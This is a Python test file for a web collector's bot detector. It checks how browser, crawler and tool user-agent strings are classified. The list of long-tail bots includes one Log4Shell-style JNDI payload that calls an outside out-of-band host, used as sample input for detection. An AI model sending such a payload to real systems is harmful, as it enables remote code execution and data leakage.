"""Tests for bot detection."""

from __future__ import annotations

import builtins
import re

import pytest
from crawlerdetect.crawlerdetect import get_compiled_exclusions_regex

from collector.ingest import bots
from collector.ingest.bots import is_bot
from collector.ingest.useragent import parse_user_agent

BROWSERS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_1_2 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Version/17.1.2 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (iPad; CPU OS 16_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/16.6 "
    "Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 "
    "Safari/537.36 Edg/120.0.2210.91",
    "Mozilla/5.0 (Linux; Android 13; SM-S911B) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/23.0 "
    "Chrome/115.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (Linux; Android 13; SM-X700) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.6099.144 "
    "Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/119.0.0.0 "
    "Safari/537.36 OPR/105.0.0.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.2 "
    "Safari/605.1.15",
]

BOTS = [
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/120.0.6099.71 Mobile Safari/537.36 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
    "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)",
    "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
    "curl/8.4.0",
    "Wget/1.21.4",
    "python-requests/2.31.0",
    "Go-http-client/1.1",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/120.0.6099.109 "
    "Safari/537.36",
    "Mozilla/5.0 (Unknown; Linux x86_64) AppleWebKit/538.1 (KHTML, like Gecko) PhantomJS/2.1.1 Safari/538.1",
    "Mozilla/5.0 (Linux; Android 11; moto g power (2022)) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/119.0.0.0 Mobile Safari/537.36 Chrome-Lighthouse",
    "Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)",
    "",
    "   ",
    "Mozilla",
]


# In-app browsers, consoles, feature phones and device names that contain "bot" or "spider": real people.
MORE_BROWSERS = [
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/21B80 "
    "[FBAN/FBIOS;FBAV/442.0.0.40.110;FBBV/537151131;FBDV/iPhone14,5;FBMD/iPhone;FBSN/iOS;FBSV/17.1;FBSS/3;FBID/phone;"
    "FBLC/en_US;FBOP/5;FBRV/540235340]",
    "Mozilla/5.0 (Linux; Android 14; SM-S918B Build/UP1A.231005.007; wv) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Version/4.0 Chrome/120.0.6099.144 Mobile Safari/537.36 [FB_IAB/FB4A;FBAV/445.0.0.34.118;]",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_2 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 "
    "Instagram 312.1.0.34.111 (iPhone15,2; iOS 17_2; en_US; en; scale=3.00; 1179x2556; 548339486)",
    "Mozilla/5.0 (Linux; Android 13; Pixel 7 Build/TQ3A.230901.001; wv) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Version/4.0 Chrome/119.0.6045.163 Mobile Safari/537.36 Instagram 309.1.0.41.113 Android (33/13; 420dpi; "
    "1080x2400; Google/google; Pixel 7; panther; panther; en_US; 541635890)",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 16_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 "
    "LinkedInApp/9.29.5512",
    "Mozilla/5.0 (Linux; Android 12; M2101K6G Build/SKQ1.210908.001; wv) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Version/4.0 Chrome/118.0.5993.111 Mobile Safari/537.36 musical_ly_2023108040 JsSdk/1.0 NetType/WIFI "
    "Channel/googleplay AppName/musical_ly app_version/31.8.4 ByteLocale/en ByteFullLocale/en Region/US",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_0 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 "
    "MicroMessenger/8.0.42(0x18002a2f) NetType/WIFI Language/zh_CN",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "GSA/291.0.584360710 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 8.1.0; XBot_Senior Build/O11019) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/65.0.3325.109 Mobile Safari/537.36",
    "Mozilla/5.0 (Linux; Android 13; Spider 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
    "Mozilla/5.0 (PlayStation 4 1.52) AppleWebKit/536.26 (KHTML, like Gecko)",
    "Micromax X291/Q03C MAUI-Browser Profile/MIDP-2.0 Configuration/CLDC-1.1",
    "KDDI-CA3H UP.Browser/6.2_7.2.7.1.K.5.214 (GUI) MMP/2.0",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Mobile "
    "Safari/537.36 (Ecosia android@120.0.6099.144)",
]
# The long tail crawlerdetect alone let through (device-detector's and crawler-user-agents' corpora).
LONG_TAIL_BOTS = [
    "munin/http_loadtime",
    "Arachni/v1.5.1",
    "Mozilla/5.0 (compatible; Detectify)",
    "ScamadviserExternalHit/1.0",
    "Prometheus/2.40.5",
    "Datadog Agent/5.10.1",
    "Mozilla/5.0 (compatible; Cloudflare-Traffic-Manager/1.0; +https://www.cloudflare.com/traffic-manager/)",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/78.0.3904.97 "
    "Safari/537.36 +https://www.mirrorweb.com",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko; compatible; GoogleAgent-Mariner) "
    "Chrome/142.0.7444.162 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 "
    "Safari/537.36 Playwright/1.40.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/96.0.4664.93 "
    "Safari/537.36 (Autoconfig Test from USTC, Quit please contact: mailservertest2023@gmail.com)",
    "${jndi:ldap://${hostName}.useragent.xxxxxxxx.oast.fun}",
    "Hello World",
    "Microsoft Office Word/16.78.1008 (Mac OS/14.0; Desktop; en-US; NonAppStore; Apple/Mac14,9)",
]


@pytest.mark.parametrize("ua", BROWSERS + MORE_BROWSERS)
def test_browsers_are_not_bots(ua: str) -> None:
    assert not is_bot(ua)
    assert bots.bot_rule(ua) is None


@pytest.mark.parametrize("ua", LONG_TAIL_BOTS)
def test_long_tail_bots(ua: str) -> None:
    assert is_bot(ua)


@pytest.mark.parametrize(
    ("ua", "rule"),
    [
        ("curl/8", "short"),
        ("python-requests/2.31.0", "tool"),
        ("Mozilla/5.0 (compatible; Foo/1.0; +http://foo.example/bot)", "tell"),
        ("Mozilla/5.0 (compatible; bingbot/2.0)", "crawler"),
        ("munin/http_loadtime", "no_client"),
    ],
)
def test_bot_rule_names_the_first_rule_broken(ua: str, rule: str) -> None:
    assert bots.bot_rule(ua) == rule


def test_a_user_agent_the_parser_names_is_no_bot_without_browser_tokens() -> None:
    # Apps the user-agent parser knows by name stay, though they carry no engine token.
    assert parse_user_agent("Spotify/8.8.96 iOS/17.1 (iPhone15,2)").browser
    assert bots.bot_rule("Spotify/8.8.96 iOS/17.1 (iPhone15,2)") is None


def test_rules_agree_without_the_native_engine(monkeypatch: pytest.MonkeyPatch) -> None:
    real_import = builtins.__import__

    def no_native(name: str, *args: object, **kwargs: object) -> object:
        if name == "ua_parser_rs":
            raise ImportError(name)
        return real_import(name, *args, **kwargs)

    native = bots._first_rule(bots._EARLY_RULES)
    monkeypatch.setattr(builtins, "__import__", no_native)
    fallback = bots._first_rule(bots._EARLY_RULES)
    for ua in BROWSERS + MORE_BROWSERS + LONG_TAIL_BOTS + BOTS:
        assert fallback(ua) == native(ua), ua


@pytest.mark.parametrize("ua", BOTS)
def test_bots(ua: str) -> None:
    assert is_bot(ua)


def test_bot_token_beyond_truncation_is_ignored() -> None:
    assert not is_bot(BROWSERS[0] + " " * bots.MAX_UA_LENGTH + "Googlebot/2.1")


def _literal(pattern: str) -> str:
    """Turn a crawler pattern into a plain string it should match."""
    text = re.sub(r"\\[dDsSwW]", "1", pattern)
    text = re.sub(r"\[\^?([^\]]*)\]", lambda m: m.group(1)[:1] or "x", text)
    text = re.sub(r"\\(.)", r"\1", text)
    return re.sub(r"[()?*+^$|{}]", "", text).replace(".", "x")


def test_native_matcher_agrees_with_crawlerdetect() -> None:
    native = bots._native_matcher()
    if native is None:
        pytest.skip("ua-parser-rs is not installed")
    reference = bots._python_matcher()
    corpus = [f"Mozilla/5.0 (compatible; {_literal(p)}/2.1)" for p in bots._CRAWLER_PATTERNS]
    corpus += [_literal(p).upper() for p in bots._CRAWLER_PATTERNS]
    corpus += [ua.lower() for ua in BROWSERS] + ["YandexSearch/1.0", "YandexBot/3.0"]
    texts = {bots._EXCLUSIONS.sub("", ua) for ua in corpus}
    disagreements = [t for t in texts if t and native(t) != reference(t)]
    assert disagreements == []
    assert sum(map(reference, texts)) > len(bots._CRAWLER_PATTERNS)


def test_exclusions_behind_the_lookahead_remove_what_crawlerdetect_removes() -> None:
    original = get_compiled_exclusions_regex()
    assert bots._EXCLUSIONS.pattern != original.pattern
    corpus = BROWSERS + MORE_BROWSERS + LONG_TAIL_BOTS + BOTS
    corpus += [f"a{_literal(p)}b {_literal(p)}" for p in bots._EXCLUSION_PATTERNS]
    corpus += [ua.upper() for ua in corpus] + [ua.lower() for ua in corpus]
    assert [bots._EXCLUSIONS.sub("", ua) for ua in corpus] == [original.sub("", ua) for ua in corpus]


def test_first_chars_of_a_pattern() -> None:
    assert bots._first_chars("(like )?Gecko") == "lG"
    assert bots._first_chars("[ ]Intel") == " "
    assert bots._first_chars('\\"Yandex') == '"'
    assert bots._first_chars("; M bot") == ";"
    assert bots._first_chars(".*bot") is None
